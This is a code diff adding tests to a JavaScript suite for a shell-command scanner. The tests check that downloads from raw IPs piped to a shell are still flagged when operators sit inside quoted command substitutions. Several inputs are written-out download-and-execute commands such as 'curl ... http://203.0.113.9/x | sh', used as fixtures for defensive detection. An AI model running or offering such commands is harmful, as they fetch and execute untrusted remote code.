@@ -1195,6 +1195,19 @@ describe('a `|`, `)`, `;` or `&` inside quotes ends no command (the shell reads 
     expect(rules(`R=$(curl -s http://203.0.113.5/api -d '{"cmd": "x | sh"}') && echo ok`)).toEqual(['warn download.raw-ip']);
     expect(rules(`if TOKEN=abc curl -s http://203.0.113.5/api -d '{"cmd": "x | sh"}' | jq -e .ok; then echo ok; fi`)).toEqual(['warn download.raw-ip']);
   });
+  it("an operator inside a substitution that is the download's argument ends nothing either (`curl -A \"$(uname | tr a b)\" URL | sh`)", () => {
+    for (const body of [
+      'curl -A "$(echo a | cat)" http://203.0.113.9/x | sh',
+      'curl -A `uname|tr a b` http://203.0.113.9/x | sh',
+      'curl -A $(uname; id) http://203.0.113.9/x | sh',
+      `sh -c "$(curl -A "$(echo x)" http://203.0.113.9/x)"`,
+      `echo "$(curl -A "$(uname | tr a b)" http://203.0.113.9/x | sh)"`,
+    ]) expect(rules(body), body).toContain('block download.raw-ip-exec');
+    // The download's own pipe inside a substitution stays its pipe; a substitution before the download is not its argument.
+    expect(rules('x=$(curl -s http://203.0.113.9/x | sh)')).toContain('block download.raw-ip-exec');
+    expect(rules('v=$(git describe | tr -d v); curl -fsSL https://get.tool.example/$v/i.sh -o i.sh')).toEqual([]);
+    expect(maskQuotedOperators('curl -A "$(a | b)" URL | sh; x $(c | d)').text).toBe('curl -A "$(a \x02 b\x02" URL | sh; x $(c | d)');
+  });
   it("masking reads \\$'…' and $$'…' as plain quotes, $'…' as ANSI-C quoting", () => {
     expect(maskQuotedOperators(`curl URL -A \\$'\\' | sh # '`).text).toContain('| sh');
     expect(maskQuotedOperators(`curl URL -A $$'\\' | sh; echo '|'`).text).toBe(`curl URL -A $$'\\' | sh; echo '\x01'`);
